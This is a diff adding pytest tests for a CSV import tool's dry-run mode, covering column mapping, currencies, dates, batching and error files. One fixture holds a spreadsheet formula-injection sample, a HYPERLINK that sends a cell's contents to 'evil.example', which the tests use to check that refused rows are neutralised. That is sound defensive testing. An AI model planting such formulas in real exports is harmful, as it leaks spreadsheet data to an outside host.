@@ -1,0 +1,315 @@
+"""Rows of a file checked without a service: which columns, what cells mean, what is told or refused."""
+
+import csv
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from chassis.api.currencies import Currency
+from chassis.cli.imports.columns import columns_for
+from chassis.cli.imports.engine import BATCH_CHARACTERS, Result, Run
+from chassis.cli.imports.fields import Cells, Notation
+from chassis.cli.imports.neutral import neutralised, restored
+from chassis.cli.imports.tabular import Row, UnreadableFile, open_table
+from chassis.cli.main import build, run
+
+Check = Callable[..., tuple[int, dict[str, Any], str]]
+CUSTOMERS = (
+    "external_id",
+    "display_name",
+    "given_name",
+    "family_name",
+    "organization_name",
+    "email",
+    "phone",
+    "country",
+)
+PURCHASES = ("customer", "email", "date", "amount", "currency", "quantity", "reference", "status")
+
+
+@pytest.fixture
+def check(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Check:
+    """Check a file as `rapport import KIND FILE --dry-run`: the exit code, the result, what it told."""
+    monkeypatch.setenv("RAPPORT_HOME", str(tmp_path / "home"))
+    monkeypatch.delenv("RAPPORT_CURRENCY", raising=False)
+
+    def imported(
+        kind: str, content: str | bytes, *options: str, name: str = "t.csv"
+    ) -> tuple[int, dict[str, Any], str]:
+        (tmp_path / name).write_bytes(content.encode() if isinstance(content, str) else content)
+        words = ["rapport", "import", kind, str(tmp_path / name), "--dry-run", "--json", *options]
+        monkeypatch.setattr("sys.argv", words)
+        code = run(build())
+        out, err = capsys.readouterr()
+        return code, json.loads(out) if out.strip() else {}, err
+
+    return imported
+
+
+def cells(**values: str) -> Cells:
+    notation = Notation(Currency.of("USD"), country="DE")
+    return Cells(Row(2, dict(values)), {name: name for name in values}, notation)
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        "Kundennummer;Vorname;Nachname;E-Mail-Adresse;Telefon;Land",
+        "N° client;Prénom;Nom;Courriel;Téléphone;Pays",
+        "Código cliente;Nombre;Apellidos;Correo electrónico;Teléfono;País",
+        "Codice cliente;Nome;Cognome;Indirizzo e-mail;Telefono;Paese",
+        "ID Cliente;Nome;Sobrenome;E-mail;Telefone;País",
+        "Klantnummer;Voornaam;Achternaam;E-mailadres;Telefoon;Land",
+        "Record ID;First Name;Last Name;Email;Phone Number;Country/Region",
+        "Customer ID;First Name;Last Name;Email;Phone;Default Address Country Code",
+    ],
+)
+def test_columns_are_known_in_the_big_languages_and_of_well_known_systems(header: str) -> None:
+    columns = header.split(";")
+    wanted = ("external_id", "given_name", "family_name", "email", "phone", "country")
+    assert list(columns_for(CUSTOMERS, (), columns, {}).items()) == sorted(
+        zip(wanted, columns, strict=True), key=lambda pair: CUSTOMERS.index(pair[0])
+    )
+
+
+SHOPIFY = [
+    "Name",
+    "Email",
+    "Financial Status",
+    "Paid at",
+    "Currency",
+    "Total",
+    "Created at",
+    "Billing Name",
+    "Id",
+]
+STRIPE = ["id", "Created date (UTC)", "Amount", "Currency", "Status", "Customer Email", "Customer ID"]
+
+
+def test_the_id_and_name_of_an_order_are_nobodys() -> None:
+    assert columns_for(CUSTOMERS, (), SHOPIFY, {}) == {"display_name": "Billing Name", "email": "Email"}
+    assert columns_for(CUSTOMERS, (), ["id", "customer_email", "date", "amount"], {}) == {
+        "email": "customer_email"
+    }
+    assert columns_for(CUSTOMERS, (), ["id", "name", "total"], {}) == {
+        "external_id": "id",
+        "display_name": "name",
+    }
+    used = columns_for(PURCHASES, (), ["id", "customer_email", "date", "amount"], {})
+    assert used == {"email": "customer_email", "date": "date", "amount": "amount", "reference": "id"}
+
+
+def test_the_exports_of_shops_and_payments_are_purchases() -> None:
+    shop = columns_for(PURCHASES, ("amount", "date"), SHOPIFY, {})
+    assert (shop["email"], shop["date"], shop["amount"]) == ("Email", "Created at", "Total")
+    assert shop["status"] == "Financial Status"
+    paid = columns_for(PURCHASES, ("amount", "date"), STRIPE, {})
+    assert (paid["customer"], paid["email"]) == ("Customer ID", "Customer Email")
+    assert (paid["date"], paid["reference"]) == ("Created date (UTC)", "id")
+
+
+def test_a_mapped_column_is_not_guessed_for_another_field() -> None:
+    header = ["Kundennummer", "Vorname"]
+    fields = (*CUSTOMERS, "account_number")
+    assert columns_for(fields, (), header, {"account_number": "Kundennummer"}) == {
+        "given_name": "Vorname",
+        "account_number": "Kundennummer",
+    }
+
+
+@pytest.mark.parametrize("mapping", [{}, {"amount": "y"}, {"nothing": "x"}])
+def test_a_column_that_cannot_be_told_is_asked_for(mapping: dict[str, str]) -> None:
+    with pytest.raises(UnreadableFile, match=r"--map amount=|--map nothing="):
+        columns_for(["amount"], ["amount"], ["x"], mapping)
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("en_US", "en-US"),
+        ("DE", "de"),
+        ("de-de.UTF-8", "de-DE"),
+        ("zh_hant_tw", "zh-Hant-TW"),
+        ("German", "de"),
+        ("", ""),
+        ("x y", "x y"),
+    ],
+)
+def test_languages_are_written_as_bcp_47(text: str, code: str) -> None:
+    assert cells(language=text).language("language") == code
+
+
+@pytest.mark.parametrize(
+    "text", ["Germany", "DE", "deu", "Deutschland", "Allemagne", "ALEMANIA", "Duitsland", ""]
+)
+def test_countries_are_known_by_name_and_by_code_and_by_the_option(text: str) -> None:
+    assert cells(country=text).region("country") == "DE"
+
+
+def test_a_country_that_is_none_is_told() -> None:
+    row = cells(country="Nowhere")
+    row.region("country")
+    assert [told.column for told in row.row.told] == ["country"]
+
+
+@pytest.mark.parametrize("nothing", ["NULL", "null", "\\N", "N/A", "#N/A", "NaN", "None", "-", " "])
+def test_what_exports_write_for_nothing_is_nothing(nothing: str) -> None:
+    row = cells(date=nothing, email=nothing, quantity=nothing, family_name="Null")
+    assert (row.moment("date"), row.several("email"), row.count("quantity")) == (None, [], 0)
+    assert row.text("family_name") == "Null"
+    assert row.row.problems == []
+
+
+def test_a_cell_may_hold_several_addresses_and_a_name_is_one_line() -> None:
+    row = cells(
+        email="a@x.example; b@y.example,", phone="030 1234567\n0171 1234567", display_name="Acme\nLtd"
+    )
+    assert row.several("email") == ["a@x.example", "b@y.example"]
+    assert row.several("phone") == ["030 1234567", "0171 1234567"]
+    assert row.text("display_name") == "Acme Ltd"
+
+
+def test_the_columns_that_are_used_and_ignored_are_told(check: Check) -> None:
+    code, result, _ = check("customers", "id;Vorname;Notiz\n1;Anna;x\n")
+    assert (code, result["rows"]) == (0, 1)
+    assert (result["used"], result["ignored"]) == ({"external_id": "id", "given_name": "Vorname"}, ["Notiz"])
+
+
+def test_the_currency_of_the_installation_is_the_default_and_the_only_one(
+    check: Check, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    file = "customer_id,date,amount,currency\na,2026-01-02,1.00,EUR\n"
+    code, result, _ = check("purchases", file)
+    assert (code, result["refused"]) == (1, 1)
+    told = Path(result["errors_file"]).read_text()
+    assert "must be USD, the currency of this installation (RAPPORT_CURRENCY)" in told
+    monkeypatch.setenv("RAPPORT_CURRENCY", "EUR")
+    assert check("purchases", file)[0] == 0
+    assert check("purchases", 'customer_id,date,amount\na,2026-01-02,"1,00 €"\n')[0] == 0
+    assert check("purchases", "customer_id,date,amount\na,2026-01-02,$1.00\n")[0] == 1
+    code, _, told = check("purchases", file, "--currency", "USD")
+    assert (code, "must be EUR" in told) == (2, True)
+
+
+def test_payments_that_came_to_nothing_and_further_lines_of_an_order_are_skipped(check: Check) -> None:
+    file = (
+        "Email,Created at,Total,Id,Financial Status\n"
+        "a@x.example,2026-01-02 10:00:00 -0500,10.00,1,paid\n"
+        "a@x.example,2026-01-02 10:00:00 -0500,,1,\n"
+        "b@x.example,2026-01-03 10:00:00 -0500,5.00,2,refunded\n"
+        "c@x.example,2026-01-03 10:00:00 -0500,-5.00,3,paid\n"
+    )
+    code, result, _ = check("purchases", file)
+    assert (code, result["rows"], result["skipped"], result["refused"]) == (0, 4, 2, 0)
+
+
+def test_what_stays_ambiguous_ends_before_anything_is_done(check: Check) -> None:
+    code, _, told = check("purchases", "customer_id,date,amount\na,2026-01-02,12.500\n")
+    assert (code, "--decimal" in told) == (2, True)
+    code, _, told = check("purchases", "customer_id,date,amount\na,01/02/2026,1.00\n")
+    assert (code, "--date-format" in told) == (2, True)
+    for file in (
+        "customer_id,date,amount\na,2026-01-02,12.500\n",
+        "customer_id,date,amount\na,2026-01-02,1\n",
+    ):
+        assert check("purchases", file, "--decimal", ",")[0] == 0
+
+
+def test_a_date_cell_and_a_text_are_both_read_with_a_format(check: Check) -> None:
+    file = "customer_id,date,amount\na,2026-03-02T00:00:00,1.00\nb,02.03.2026,1.00\n"
+    assert check("purchases", file, "--date-format", "%d.%m.%Y")[0] == 0
+
+
+@pytest.mark.parametrize("file", ["id,name\n", "id,name\n,\n"])
+def test_an_import_of_nothing_says_so(check: Check, file: str) -> None:
+    code, _, told = check("customers", file)
+    assert (code, "no rows under its header" in told) == (2, True)
+
+
+REFUSED = 'customer_id,date,amount\n"=HYPERLINK(""http://evil.example/?""&A1)",yesterday,1\n@SUM(1+1),yesterday,1,more\n'
+
+
+def test_refused_rows_are_no_formulas_and_come_back_as_they_were(check: Check, tmp_path: Path) -> None:
+    _, result, _ = check("purchases", REFUSED)
+    lines = list(csv.reader(Path(result["errors_file"]).read_text().splitlines()))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
+    assert [line[3] for line in lines] == ["", "", "more"]
+    first, second = open_table(Path(result["errors_file"])).rows()
+    source = open_table(tmp_path / "t.csv")
+    assert first.cells["customer_id"] == '=HYPERLINK("http://evil.example/?"&A1)'
+    assert (second.cells["customer_id"], second.extra) == ("@SUM(1+1)", ["more"])
+    assert [first.origin, second.origin] == [row.origin for row in source.rows()]
+
+
+@pytest.mark.parametrize("cell", ["=1", "+49 30", "-1", "@x", "'=1", "'", "''=1", "'Anna", "Anna", ""])
+def test_whatever_is_neutralised_is_restored(cell: str) -> None:
+    assert restored(neutralised(cell)) == cell
+
+
+def test_no_file_is_overwritten(check: Check, tmp_path: Path) -> None:
+    first = Path(check("purchases", REFUSED)[1]["errors_file"])
+    first.write_text("mended")
+    second = Path(check("purchases", REFUSED)[1]["errors_file"])
+    assert (first.read_text(), first != second) == ("mended", True)
+    check("purchases", REFUSED, "--errors", str(tmp_path / "t.csv"))
+    assert (tmp_path / "t.csv").read_text() == REFUSED
+
+
+def test_a_folder_that_takes_no_file_hides_no_result(check: Check, tmp_path: Path) -> None:
+    code, result, _ = check("purchases", REFUSED, "--errors", str(tmp_path / "t.csv" / "x"))
+    assert (code, result["refused"], result["errors_file"]) == (1, 2, "")
+    assert "could not be written" in result["notes"][0]
+    assert "line 2: INVALID_TIME" in result["notes"][1]
+
+
+class Importer:
+    """Takes every row, or ends at the second batch."""
+
+    fields, required = ("external_id",), ()
+
+    def __init__(self, ends: bool = False) -> None:
+        self.sizes: list[int] = []
+        self._ends = ends
+
+    def begin(self, used: object) -> None: ...
+
+    def parse(self, cells: Cells) -> str:
+        return cells.text("external_id")
+
+    async def send(self, items: list[tuple[Row, str]]) -> int:
+        if self.sizes and self._ends:
+            raise ConnectionError
+        self.sizes.append(len(items))
+        return len(items)
+
+    async def finish(self, result: Result) -> dict[int, Any]:
+        return {}
+
+
+async def test_batches_end_at_what_a_service_takes(tmp_path: Path) -> None:
+    path = tmp_path / "t.csv"
+    path.write_text("id,notes\n" + f"1,{'x' * (BATCH_CHARACTERS // 3)}\n" * 7)
+    importer, result, notation = Importer(), Result(), Notation(Currency.of("USD"))
+    run = Run(open_table(path), importer, {}, notation, False, lambda *_: None, result)
+    await run.run(tmp_path / "e.csv")
+    assert (importer.sizes, result.created) == ([3, 3, 1], 7)
+
+
+async def test_what_was_done_before_a_failure_is_known(tmp_path: Path) -> None:
+    path = tmp_path / "t.csv"
+    path.write_text("id\n" + "1\n" * 1500 + "\x01\n")
+    result, notation = Result(), Notation(Currency.of("USD"))
+    run = Run(open_table(path), Importer(ends=True), {}, notation, False, lambda *_: None, result)
+    with pytest.raises(ConnectionError):
+        await run.run(tmp_path / "e.csv")
+    assert (result.rows, result.created, result.used) == (1000, 1000, {"external_id": "id"})
+
+
+def test_rows_that_are_no_text_are_refused_and_others_are_read(check: Check) -> None:
+    content = b"id,name,notes\n1,Ren\xe9,\n2,N\x00l,\n3,Zo\xc3\xab,\x07\n"
+    code, result, _ = check("customers", content)
+    assert (code, result["rows"], result["refused"]) == (1, 3, 2)
+    assert "Ren\u00e9" in Path(result["errors_file"]).read_text()
